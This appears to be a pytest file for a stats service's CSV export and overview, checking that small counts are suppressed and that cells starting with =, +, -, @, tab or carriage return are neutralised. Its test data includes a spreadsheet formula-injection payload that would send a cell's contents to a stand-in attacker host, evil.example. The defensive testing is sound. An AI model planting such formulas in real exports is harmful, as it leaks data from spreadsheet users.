"""The CSV export and the studio's stats overview: only suppressed rollups leave the engine, and
no cell of the export can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
import redis

from engine.services.reports import stats_csv, stats_overview
from engine.store.stats import Stats

D1, D2, D3 = date(2026, 3, 2), date(2026, 3, 3), date(2026, 3, 4)
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def seed(connection: redis.Redis, counters: dict[date, dict[str, int]]) -> None:
    for day, fields in counters.items():
        for field, amount in fields.items():
            connection.hincrby(f"{{ps}}:stats:{day.isoformat()}", field, amount)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_has_a_header_and_suppressed_values_are_empty_cells() -> None:
    rows = [{"day": "2026-03-02", "impressions": 23, "clicks": None, "ctr": None},
            {"day": "2026-03-03", "impressions": 28, "clicks": 11, "ctr": 0.3929}]
    text = stats_csv(rows, ["day", "impressions", "clicks", "ctr"])
    assert read(text) == [["day", "impressions", "clicks", "ctr"],
                          ["2026-03-02", "23", "", ""],
                          ["2026-03-03", "28", "11", "0.3929"]]


def test_columns_choose_and_order_the_cells() -> None:
    rows = [{"vacancy_id": "v-a", "impressions": 12, "suppressed": ["clicks"], "other": "x"}]
    assert read(stats_csv(rows, ["impressions", "vacancy_id", "missing", "suppressed"])) == [
        ["impressions", "vacancy_id", "missing", "suppressed"], ["12", "v-a", "", "clicks"]]


@pytest.mark.parametrize(("value", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+31 6 1234", "'+31 6 1234"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("v-a=1", "v-a=1"),  # only the first character matters
    ("sector.ict", "sector.ict"),
    (-5, "-5"),  # a number is not a formula, and stays a number
    (0.375, "0.375"),
])
def test_a_cell_that_could_run_as_a_formula_is_neutralised(value: object, written: str) -> None:
    assert read(stats_csv([{"vacancy_id": value}], ["vacancy_id"])) == [["vacancy_id"], [written]]


def test_a_header_is_neutralised_too() -> None:
    assert read(stats_csv([], ["=cmd"])) == [["'=cmd"]]


def test_awkward_text_survives_the_round_trip() -> None:
    value = 'quote " comma , newline \n and ; semicolon'
    assert read(stats_csv([{"topic": value}], ["topic"])) == [["topic"], [value]]


def test_export_from_the_store_neutralises_a_formula_in_a_vacancy_id(fresh_db: tuple[int, redis.Redis]) -> None:
    seed(fresh_db[1], {D1: {f"impression|{HYPERLINK}|-": 15, "impression|v-b|-": 3}})
    rows = Stats(fresh_db[1], k=10).rollup(D1, D1, "vacancy")
    table = read(stats_csv(rows, ["vacancy_id", "impressions", "clicks", "ctr"]))
    assert table == [["vacancy_id", "impressions", "clicks", "ctr"],
                     ["'" + HYPERLINK, "15", "0", "0.0"],
                     ["v-b", "", "0", ""]]


def test_overview_holds_what_the_studio_shows(fresh_db: tuple[int, redis.Redis]) -> None:
    seed(fresh_db[1], {
        D1: {"impression|v-a|sector.ict": 4, "impression|v-b|sector.ict": 7, "impression|v-c|sector.care": 12,
             "click|v-c|sector.care": 3},
        D2: {"impression|v-a|sector.ict": 8, "click|v-a|sector.ict": 2, "impression|v-c|-": 20, "click|v-c|-": 9},
        D3: {"impression|v-d|-": 15},
    })
    overview = stats_overview(Stats(fresh_db[1], k=10), D1, D3)
    assert (overview["k"], overview["from"], overview["to"]) == (10, "2026-03-02", "2026-03-04")
    # per day: 4 + 7 + 12 = 23; 8 + 20 = 28 with 2 + 9 = 11 clicks (11 / 28 = 0.3929); 15
    assert [(r["day"], r["impressions"], r["clicks"], r["ctr"]) for r in overview["by_day"]] == [
        ("2026-03-02", 23, None, None), ("2026-03-03", 28, 11, 0.3929), ("2026-03-04", 15, 0, 0.0)]
    # busiest first (v-c 12 + 20 = 32, v-d 15, v-a 4 + 8 = 12), the suppressed v-b (7) last
    assert [(r["vacancy_id"], r["impressions"]) for r in overview["by_vacancy"]] == [
        ("v-c", 32), ("v-d", 15), ("v-a", 12), ("v-b", None)]
    assert [(r["topic"], r["impressions"]) for r in overview["by_topic"]] == [
        ("-", 35), ("sector.care", 12), ("sector.ict", 19)]
    # 23 + 28 + 15 = 66 impressions, 3 + 11 = 14 clicks, 14 / 66 = 0.2121...
    assert overview["totals"] == {"impressions": 66, "clicks": 14, "ctr": 0.2121, "suppressed": []}


def test_overview_totals_below_k_are_suppressed(fresh_db: tuple[int, redis.Redis]) -> None:
    seed(fresh_db[1], {D1: {"impression|v-a|-": 6, "click|v-a|-": 1}})
    overview = stats_overview(Stats(fresh_db[1], k=10), D1, D2)
    assert overview["totals"] == {"impressions": None, "clicks": None, "ctr": None,
                                  "suppressed": ["impressions", "clicks"]}
    assert [r["impressions"] for r in overview["by_day"]] == [None, 0]


def test_overview_refuses_a_reversed_range(fresh_db: tuple[int, redis.Redis]) -> None:
    with pytest.raises(ValueError, match="range reversed"):
        stats_overview(Stats(fresh_db[1]), D2, D1)
